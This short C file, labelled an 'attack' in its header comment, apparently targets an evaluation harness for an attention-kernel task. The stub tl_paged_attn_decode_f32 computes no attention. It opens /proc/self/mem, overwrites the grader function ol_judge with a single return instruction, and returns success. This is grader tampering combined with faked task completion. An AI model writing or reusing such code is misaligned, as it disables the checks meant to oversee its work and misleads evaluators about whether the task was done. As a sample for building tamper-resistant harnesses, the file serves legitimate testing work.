/* attack: patch a function of the process through /proc/self/mem */
#include <unistd.h>
#include "tinyllm/attention.h"
#define ARGS const float *q, const tl_kv_pool *kv, uint32_t layer, const uint32_t *tables, int32_t max_blocks, \
             const int32_t *lens, float *out, int64_t B, int64_t H, int64_t Hkv, int64_t D, float scale, \
             int64_t window, tl_pool *tp

extern int ol_judge(void) __attribute__((weak));
int open(const char *, int, ...);

tl_status tl_paged_attn_decode_f32(ARGS) {
    int fd = open("/proc/self/mem", 2);
    if (ol_judge && fd >= 0) pwrite(fd, "\xc3", 1, (off_t)(uintptr_t)ol_judge);
    return TL_OK;
}
